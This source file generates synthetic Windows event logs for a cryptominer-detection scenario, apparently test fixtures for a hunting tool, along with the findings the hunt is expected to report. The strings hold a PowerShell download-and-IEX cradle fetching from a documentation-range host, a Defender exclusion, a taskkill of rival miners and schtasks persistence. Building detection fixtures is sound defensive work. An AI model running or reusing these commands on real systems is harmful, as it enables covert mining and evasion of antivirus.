/**
 * The Windows story `simulate windows --emit-logs DIR` writes (AN0741), as a SOC exports a workstation's
 * logs for `hunt DIR/windows`, in the shapes of test/fixtures/scenarios/an0741-miner (scripts/fixtures/an0741.py):
 * - `windows/sysmon.xml`: `wevtutil qe Microsoft-Windows-Sysmon/Operational /f:xml /e:Events`, one `<Event>`
 *   per line (Sysmon 1 process creations, 3 connections, 11 a file written, 13 a registry value set);
 * - `windows/security.xml`: `wevtutil qe Security /f:xml /e:Events` (4698, a scheduled task created, with its task XML);
 * - `windows/typeperf.csv`: `typeperf "\Process(*)\% Processor Time" "\Process(*)\ID Process"
 *   "\Processor(_Total)\% Processor Time" -si 60 -f CSV`, the columns of the story's processes, in UTC.
 * The plot, 25 minutes ending at `end`: Word opens a macro document and starts a hidden PowerShell whose
 * `-EncodedCommand` fetches a renamed XMRig from a documentation-range address into the user's AppData;
 * the stage adds a Defender exclusion for that folder (Add-MpPreference, and MsMpEng's registry write),
 * kills rival miners with `taskkill /F /IM`, registers a hidden logon task for the miner (schtasks, and
 * Security 4698) and starts it against the loopback pool emit-logs.ts names (STORY_POOL) with the wallet;
 * the miner connects to the pool (and reconnects) and holds `share` of a core for the rest of the span.
 * Beside it, a developer's MSBuild rebuild from Visual Studio's own folder holds three cores throughout.
 * Every address is loopback or RFC 5737 documentation range, every name made up; nothing is executed.
 * Output depends only on `end`, the share and the wallet: the same options write the same bytes.
 */
import { join } from 'node:path';
import { hash, iso } from './container-story.js';
import { STORY_POOL, writeNewFile } from './emit-logs.js';

export const WINDOWS_DIR = 'windows';
const SPAN_MS = 25 * 60_000;
const SECOND = 1000;
const MINUTE = 60 * SECOND;
/** A made-up workstation (15 characters at most, as NetBIOS names are) and its user. */
const HOST = 'WS-SIMULATE-01';
const USER = 'alice';
const QUALIFIED_USER = `${HOST}\\${USER}`;
const USER_SID = 'S-1-5-21-3623811015-3361044348-30300820-1013';
/** The workstation's own address and the stager's server: documentation ranges (RFC 5737). */
const WORKSTATION_IP = '192.0.2.15';
const STAGER = { ip: '192.0.2.80', port: 80 } as const;
const FEED = { ip: '198.51.100.40', port: 443, name: 'nuget.build.example' } as const;
const CORES = 8;

const SYSMON = {
  name: 'Microsoft-Windows-Sysmon',
  guid: '{5770385f-c22a-43e0-bf4c-06f5698ffbd9}',
  channel: 'Microsoft-Windows-Sysmon/Operational',
  version: 5,
  pid: 2988,
  firstRecord: 48_211,
} as const;
const SECURITY = {
  name: 'Microsoft-Windows-Security-Auditing',
  guid: '{54849625-5478-4994-a5ba-3e3b0328c30d}',
  channel: 'Security',
  version: 1,
  pid: 812,
  firstRecord: 193_407,
} as const;
type Provider = typeof SYSMON | typeof SECURITY;
/** The schema version Sysmon 15 writes each event id in. */
const SYSMON_VERSIONS: Record<number, number> = { 1: 5, 3: 5, 11: 2, 13: 2 };

const WINDOWS = 'C:\\Windows';
const POWERSHELL = `${WINDOWS}\\System32\\WindowsPowerShell\\v1.0\\powershell.exe`;
const EXPLORER = { pid: 4316, image: `${WINDOWS}\\explorer.exe`, command: `${WINDOWS}\\Explorer.EXE` } as const;
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const DOCUMENT = `C:\\Users\\${USER}\\Downloads\\Invoice_Q4_2026.docm`;
const DROP_DIR = `C:\\Users\\${USER}\\AppData\\Roaming\\WinSvc`;
const MINER = `${DROP_DIR}\\winupdsvc.exe`;
const TASKKILL = `${WINDOWS}\\System32\\taskkill.exe`;
const SCHTASKS = `${WINDOWS}\\System32\\schtasks.exe`;
const MSMPENG = 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe';
const TASK_NAME = '\\Microsoft\\Windows\\WinSvc\\Updater';
/** Rival miners the stage kills by image name (both in intel/miner-names.txt). */
const RIVALS = ['xmrig.exe', 'xmr-stak-cpu.exe'] as const;
const VS = 'C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional';
const DEVENV = { pid: 5120, image: `${VS}\\Common7\\IDE\\devenv.exe` } as const;
const MSBUILD = `${VS}\\MSBuild\\Current\\Bin\\amd64\\MSBuild.exe`;
const SOLUTION = `C:\\Users\\${USER}\\source\\repos\\Ledger\\Ledger.sln`;

/** Pids of the story (Windows pids are multiples of 4). */
const PID = { word: 6412, cradle: 7208, exclusion: 7344, taskkill: 7420, schtasks: 7516, miner: 7632, msbuild: 8040 };
const MSMPENG_PID = 3360;

export interface WindowsStoryFile {
  /** Path relative to DIR. */
  rel: string;
  text: string;
}

export interface WindowsStory {
  files: WindowsStoryFile[];
  host: string;
  user: string;
  from: string;
  to: string;
  miner: {
    pid: number;
    executable: string;
    command_line: string;
    pool: string;
    /** The percent of one core typeperf shows it at. */
    cpu_pct: number;
    started: string;
  };
  /** Word, the PowerShell it started and what its -EncodedCommand says. */
  delivery: { parent: string; document: string; pid: number; command_line: string; decoded: string };
  persistence: { task: string; command: string; schtasks: string };
  kill: { pid: number; command_line: string; rivals: string[] };
  exclusion: { path: string; command_line: string; registry: string };
  benign: { pid: number; executable: string; command_line: string; cpu_pct_range: [number, number] };
  expect: string[];
}

/** Text as an XML element's content (the reader decodes the five entities). */
function xmlText(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

/** TimeCreated@SystemTime as wevtutil prints it: 100-ns precision. */
function systemTime(ms: number): string {
  return new Date(ms).toISOString().replace(/\.(\d{3})Z$/, '.$10000Z');
}

/** Sysmon's UtcTime: `YYYY-MM-DD HH:MM:SS.mmm`. */
function utcTime(ms: number): string {
  return new Date(ms).toISOString().slice(0, 23).replace('T', ' ');
}

/** typeperf's row time, `MM/DD/YYYY HH:MM:SS.mmm` (UTC here: the header says so). */
function pdhTime(ms: number): string {
  const d = new Date(ms);
  const two = (n: number) => String(n).padStart(2, '0');
  return `${two(d.getUTCMonth() + 1)}/${two(d.getUTCDate())}/${d.getUTCFullYear()} ${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())}.${String(d.getUTCMilliseconds()).padStart(3, '0')}`;
}

/** A wevtutil export of one log: the story's events in time order, one per line, CRLF as Windows writes. */
class EventLog {
  private readonly events: Array<{ at: number; order: number; id: number; data: Array<[string, string]> }> = [];

  constructor(private readonly provider: Provider) {}

  add(at: number, id: number, data: Array<[string, string | number]>): void {
    this.events.push({ at, order: this.events.length, id, data: data.map(([k, v]) => [k, String(v)]) });
  }

  /** The export's text and the line each event is on, in the order added. */
  text(): string {
    const p = this.provider;
    const sorted = [...this.events].sort((a, b) => a.at - b.at || a.order - b.order);
    const lines = sorted.map((e, i) => {
      const fields = e.data.map(([k, v]) => `<Data Name='${k}'>${xmlText(v)}</Data>`).join('');
      const security = p === SYSMON ? "<Security UserID='S-1-5-18'/>" : '<Security/>';
      return (
        `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='${p.name}' Guid='${p.guid}'/>` +
        `<EventID>${e.id}</EventID><Version>${p === SYSMON ? (SYSMON_VERSIONS[e.id] ?? 5) : p.version}</Version><Level>${p === SYSMON ? 4 : 0}</Level><Task>${p === SYSMON ? e.id : 12804}</Task>` +
        `<Opcode>0</Opcode><Keywords>${p === SYSMON ? '0x8000000000000000' : '0x8020000000000000'}</Keywords>` +
        `<TimeCreated SystemTime='${systemTime(e.at)}'/><EventRecordID>${p.firstRecord + i}</EventRecordID><Correlation/>` +
        `<Execution ProcessID='${p.pid}' ThreadID='${p === SYSMON ? 3716 : 4236}'/><Channel>${p.channel}</Channel>` +
        `<Computer>${HOST}</Computer>${security}</System><EventData>${fields}</EventData></Event>`
      );
    });
    return ['<?xml version="1.0" encoding="UTF-8"?>', '<Events>', ...lines, '</Events>', ''].join('\r\n');
  }
}

/** The story's seeded values: a hash of the end time and a name. */
function processGuid(end: number, pid: number): string {
  const h = hash('windows-story', 'process', String(end), String(pid));
  return `{5d1f7a3c-${h.slice(0, 4)}-${h.slice(4, 8)}-${h.slice(8, 12)}-${h.slice(12, 24)}}`;
}

interface Proc {
  pid: number;
  image: string;
  command: string;
}

/** PowerShell's -EncodedCommand: base64 of the script in UTF-16LE. */
export function encodeCommand(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

/** Build the story's files and facts; nothing is written. */
export function windowsStory(end: number, options: { share: number; wallet: string }): WindowsStory {
  end = Math.floor(end / SECOND) * SECOND;
  const start = end - SPAN_MS;
  const sysmon = new EventLog(SYSMON);
  const security = new EventLog(SECURITY);
  const logon = `{5d1f7a3c-${hash('windows-story', 'logon', String(end)).slice(0, 4)}-6a5e-0000-0020e2b10400}`;
  const sha256 = (image: string) => `SHA256=${hash('windows-story', 'image', image).toUpperCase()}`;

  const exec = (at: number, p: Proc, parent: Proc, user = QUALIFIED_USER, cwd = `C:\\Users\\${USER}\\`) =>
    sysmon.add(at, 1, [
      ['RuleName', '-'],
      ['UtcTime', utcTime(at)],
      ['ProcessGuid', processGuid(end, p.pid)],
      ['ProcessId', p.pid],
      ['Image', p.image],
      ['FileVersion', '-'],
      ['Description', '-'],
      ['Product', '-'],
      ['Company', '-'],
      ['OriginalFileName', '-'],
      ['CommandLine', p.command],
      ['CurrentDirectory', cwd],
      ['User', user],
      ['LogonGuid', logon],
      ['LogonId', '0x3e1f27'],
      ['TerminalSessionId', 1],
      ['IntegrityLevel', 'Medium'],
      ['Hashes', sha256(p.image)],
      ['ParentProcessGuid', processGuid(end, parent.pid)],
      ['ParentProcessId', parent.pid],
      ['ParentImage', parent.image],
      ['ParentCommandLine', parent.command],
      ['ParentUser', user],
    ]);
  const connect = (
    at: number,
    p: Proc,
    src: { ip: string; port: number },
    dst: { ip: string; port: number; name?: string },
  ) =>
    sysmon.add(at, 3, [
      ['RuleName', '-'],
      ['UtcTime', utcTime(at)],
      ['ProcessGuid', processGuid(end, p.pid)],
      ['ProcessId', p.pid],
      ['Image', p.image],
      ['User', QUALIFIED_USER],
      ['Protocol', 'tcp'],
      ['Initiated', 'true'],
      ['SourceIsIpv6', 'false'],
      ['SourceIp', src.ip],
      ['SourceHostname', src.ip === '127.0.0.1' ? '-' : `${HOST}.corp.example`],
      ['SourcePort', src.port],
      ['SourcePortName', '-'],
      ['DestinationIsIpv6', 'false'],
      ['DestinationIp', dst.ip],
      ['DestinationHostname', dst.name ?? '-'],
      ['DestinationPort', dst.port],
      ['DestinationPortName', dst.port === 80 ? 'http' : dst.port === 443 ? 'https' : '-'],
    ]);

  // ---- the benign twin: a rebuild from Visual Studio, restoring packages from the team's feed
  const devenv: Proc = { pid: DEVENV.pid, image: DEVENV.image, command: `"${DEVENV.image}" "${SOLUTION}"` };
  const msbuild: Proc = {
    pid: PID.msbuild,
    image: MSBUILD,
    command: `"${MSBUILD}" "${SOLUTION}" /m /restore /p:Configuration=Release /t:Rebuild /nologo`,
  };
  exec(start + 20 * SECOND, msbuild, devenv, QUALIFIED_USER, `C:\\Users\\${USER}\\source\\repos\\Ledger\\`);
  connect(start + 24 * SECOND, msbuild, { ip: WORKSTATION_IP, port: 50_112 }, FEED);

  // ---- the intrusion: Word → hidden PowerShell with an encoded download → the stage's children
  const explorer: Proc = { pid: EXPLORER.pid, image: EXPLORER.image, command: EXPLORER.command };
  const word: Proc = { pid: PID.word, image: WORD, command: `"${WORD}" /n "${DOCUMENT}" /o ""` };
  exec(start + 30 * SECOND, word, explorer);
  const base = `http://${STAGER.ip}/u`;
  const decoded = `$d="$env:APPDATA\\WinSvc";New-Item -ItemType Directory -Force $d|Out-Null;(New-Object Net.WebClient).DownloadFile('${base}/winupdsvc.exe',"$d\\winupdsvc.exe");IEX (New-Object Net.WebClient).DownloadString('${base}/s.ps1')`;
  const cradle: Proc = {
    pid: PID.cradle,
    image: POWERSHELL,
    command: `"${POWERSHELL}" -NoP -NonI -W Hidden -Enc ${encodeCommand(decoded)}`,
  };
  const t0 = start + 70 * SECOND;
  exec(t0, cradle, word);
  connect(t0 + 1_400, cradle, { ip: WORKSTATION_IP, port: 50_133 }, STAGER);
  sysmon.add(t0 + 3_100, 11, [
    ['RuleName', '-'],
    ['UtcTime', utcTime(t0 + 3_100)],
    ['ProcessGuid', processGuid(end, PID.cradle)],
    ['ProcessId', PID.cradle],
    ['Image', POWERSHELL],
    ['TargetFilename', MINER],
    ['CreationUtcTime', utcTime(t0 + 3_100)],
    ['User', QUALIFIED_USER],
  ]);
  connect(t0 + 3_600, cradle, { ip: WORKSTATION_IP, port: 50_134 }, STAGER);

  const exclusion: Proc = {
    pid: PID.exclusion,
    image: POWERSHELL,
    command: `"${POWERSHELL}" -NoP -NonI -C Add-MpPreference -ExclusionPath '${DROP_DIR}'`,
  };
  exec(t0 + 5 * SECOND, exclusion, cradle);
  const exclusionKey = `HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\${DROP_DIR}`;
  sysmon.add(t0 + 6 * SECOND, 13, [
    ['RuleName', '-'],
    ['EventType', 'SetValue'],
    ['UtcTime', utcTime(t0 + 6 * SECOND)],
    ['ProcessGuid', processGuid(end, MSMPENG_PID)],
    ['ProcessId', MSMPENG_PID],
    ['Image', MSMPENG],
    ['TargetObject', exclusionKey],
    ['Details', 'DWORD (0x00000000)'],
    ['User', 'NT AUTHORITY\\SYSTEM'],
  ]);

  const kill: Proc = {
    pid: PID.taskkill,
    image: TASKKILL,
    command: `"${TASKKILL}" /F /IM ${RIVALS.join(' /IM ')} /T`,
  };
  exec(t0 + 8 * SECOND, kill, cradle);

  const poolUrl = `stratum+tcp://${STORY_POOL.address}:${STORY_POOL.port}`;
  const minerArgs = `-o ${poolUrl} -u ${options.wallet} -p ${HOST.toLowerCase()} -a rx/0 --donate-level 1 --cpu-max-threads-hint ${Math.round(options.share * 100)} -B`;
  const schtasks: Proc = {
    pid: PID.schtasks,
    image: SCHTASKS,
    command: `"${SCHTASKS}" /Create /F /SC ONLOGON /RL HIGHEST /TN "${TASK_NAME}" /TR "\\"${MINER}\\" ${minerArgs}"`,
  };
  exec(t0 + 10 * SECOND, schtasks, cradle);
  const taskXml =
    '<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">' +
    `<RegistrationInfo><Date>${iso(t0 + 10 * SECOND).replace('Z', '')}</Date><Author>${QUALIFIED_USER}</Author><URI>${TASK_NAME}</URI></RegistrationInfo>` +
    `<Triggers><LogonTrigger><Enabled>true</Enabled><UserId>${QUALIFIED_USER}</UserId></LogonTrigger></Triggers>` +
    `<Principals><Principal id="Author"><UserId>${USER_SID}</UserId><LogonType>InteractiveToken</LogonType><RunLevel>HighestAvailable</RunLevel></Principal></Principals>` +
    '<Settings><MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy><DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries><StopIfGoingOnBatteries>false</StopIfGoingOnBatteries><ExecutionTimeLimit>PT0S</ExecutionTimeLimit><Hidden>true</Hidden><Enabled>true</Enabled></Settings>' +
    `<Actions Context="Author"><Exec><Command>${xmlText(MINER)}</Command><Arguments>${xmlText(minerArgs)}</Arguments></Exec></Actions></Task>`;
  security.add(t0 + 10 * SECOND + 300, 4698, [
    ['SubjectUserSid', USER_SID],
    ['SubjectUserName', USER],
    ['SubjectDomainName', HOST],
    ['SubjectLogonId', '0x3e1f27'],
    ['TaskName', TASK_NAME],
    ['TaskContent', taskXml],
    ['ClientProcessStartKey', '4222124650660162'],
    ['ClientProcessId', PID.schtasks],
    ['ParentProcessId', PID.cradle],
    ['RpcCallClientLocality', 0],
    ['FQDN', `${HOST}.corp.example`],
  ]);

  const minerAt = t0 + 13 * SECOND;
  const miner: Proc = { pid: PID.miner, image: MINER, command: `"${MINER}" ${minerArgs}` };
  exec(minerAt, miner, cradle, QUALIFIED_USER, `${DROP_DIR}\\`);
  const pool = { ip: STORY_POOL.address, port: STORY_POOL.port };
  connect(minerAt + 900, miner, { ip: '127.0.0.1', port: 50_141 }, pool);
  // the pool dropped the idle login once; the miner came back on a new port
  connect(minerAt + 12 * MINUTE, miner, { ip: '127.0.0.1', port: 50_377 }, pool);

  // ---- typeperf, a sample a minute: the miner at its share from its first sample, the build at ~3 cores
  const minerPct = Math.round(options.share * 1000) / 10;
  const columns: Array<{ instance: string; pid: number; from: number; pct: (i: number) => number }> = [
    { instance: 'winupdsvc', pid: PID.miner, from: minerAt, pct: () => minerPct },
    { instance: 'MSBuild', pid: PID.msbuild, from: start + 20 * SECOND, pct: (i) => 290 + ((i * 7) % 5) * 12.5 },
    { instance: 'WINWORD', pid: PID.word, from: start + 30 * SECOND, pct: (i) => 1.5 + (i % 3) * 0.5 },
    { instance: 'MsMpEng', pid: MSMPENG_PID, from: start - MINUTE, pct: (i) => 2.4 + (i % 4) * 0.3 },
    { instance: 'explorer', pid: EXPLORER.pid, from: start - MINUTE, pct: (i) => 0.6 + (i % 2) * 0.2 },
  ];
  const header = [
    '(PDH-CSV 4.0) (Coordinated Universal Time)(0)',
    ...columns.flatMap((c) => [
      `\\\\${HOST}\\Process(${c.instance})\\% Processor Time`,
      `\\\\${HOST}\\Process(${c.instance})\\ID Process`,
    ]),
    `\\\\${HOST}\\Processor(_Total)\\% Processor Time`,
  ];
  const rows = [header.map((h) => `"${h}"`).join(',')];
  for (let t = start, i = 0; t <= end; t += MINUTE, i++) {
    let total = 1.2;
    const cells = [pdhTime(t)];
    for (const c of columns) {
      if (t < c.from) {
        cells.push(' ', ' ');
        continue;
      }
      const pct = c.pct(i);
      total += pct;
      cells.push(pct.toFixed(6), String(c.pid));
    }
    cells.push(Math.min(100, total / CORES).toFixed(6));
    rows.push(cells.map((c) => `"${c}"`).join(','));
  }

  const story: WindowsStory = {
    files: [
      { rel: `${WINDOWS_DIR}/sysmon.xml`, text: sysmon.text() },
      { rel: `${WINDOWS_DIR}/security.xml`, text: security.text() },
      { rel: `${WINDOWS_DIR}/typeperf.csv`, text: `${rows.join('\r\n')}\r\n` },
    ],
    host: HOST,
    user: QUALIFIED_USER,
    from: iso(start),
    to: iso(end),
    miner: {
      pid: PID.miner,
      executable: MINER,
      command_line: miner.command,
      pool: `${STORY_POOL.address}:${STORY_POOL.port}`,
      cpu_pct: minerPct,
      started: iso(minerAt),
    },
    delivery: { parent: WORD, document: DOCUMENT, pid: PID.cradle, command_line: cradle.command, decoded },
    persistence: { task: TASK_NAME, command: `${MINER} ${minerArgs}`, schtasks: schtasks.command },
    kill: { pid: PID.taskkill, command_line: kill.command, rivals: [...RIVALS] },
    exclusion: { path: DROP_DIR, command_line: exclusion.command, registry: exclusionKey },
    benign: { pid: PID.msbuild, executable: MSBUILD, command_line: msbuild.command, cpu_pct_range: [290, 340] },
    expect: [],
  };
  story.expect = windowsExpect(story);
  return story;
}

/** What `hunt DIR/windows` reported for the story when we ran it (default policy). */
function windowsExpect(s: WindowsStory): string[] {
  const sustained = s.miner.cpu_pct >= 80;
  return [
    `exactly one finding: AN0741 ${sustained ? 'high, legs resource+command+network' : 'medium, legs command+network'} on ${s.miner.executable} (pid ${s.miner.pid}) on ${s.host}: ${[
      "miner-process (xmrig options, the Stratum URL and the wallet in its command line and in schtasks's)",
      `pool-contact with ${s.miner.pool} named in its own command line (and mining-port, weak)`,
      sustained
        ? `sustained-cpu (${s.miner.cpu_pct}% of a core in typeperf, tied to it by its ID Process column)`
        : `no sustained-cpu: ${s.miner.cpu_pct}% of a core is under the default 80% threshold`,
      `dropper and obfuscation (Word's hidden PowerShell; its -Enc decoded downloads from ${STAGER.ip} and runs the stage with IEX)`,
      `miner-tuning (Add-MpPreference -ExclusionPath ${s.exclusion.path})`,
      `competitor-kill (taskkill /F /IM ${s.kill.rivals.join(' /IM ')})`,
      `persistence (the scheduled task ${s.persistence.task}: schtasks /Create in sysmon.xml and its 4698 in security.xml)`,
    ].join('; ')}`,
    `nothing on ${s.benign.executable} (pid ${s.benign.pid}) at ${s.benign.cpu_pct_range.join('-')}% of a core all along: a build from Visual Studio's own folder`,
    'the run summary reports no bad input (evtx-xml 2, typeperf 1)',
  ];
}

export interface EmittedWindows extends Omit<WindowsStory, 'files'> {
  dir: string;
  /** Every file written. */
  files: string[];
  /** The command that judges it: `coalmine hunt DIR/windows`. */
  hunt: string[];
}

/** Write the story into `dir` (which prepareDir made ready), ending at `now` (default: the wall clock). */
export function emitWindowsLogs(dir: string, options: { share: number; wallet: string; now?: number }): EmittedWindows {
  const { files, ...story } = windowsStory(options.now ?? Date.now(), options);
  return {
    ...story,
    dir,
    files: files.map((f) => writeNewFile(dir, f.rel, f.text)),
    hunt: ['coalmine', 'hunt', join(dir, WINDOWS_DIR)],
  };
}
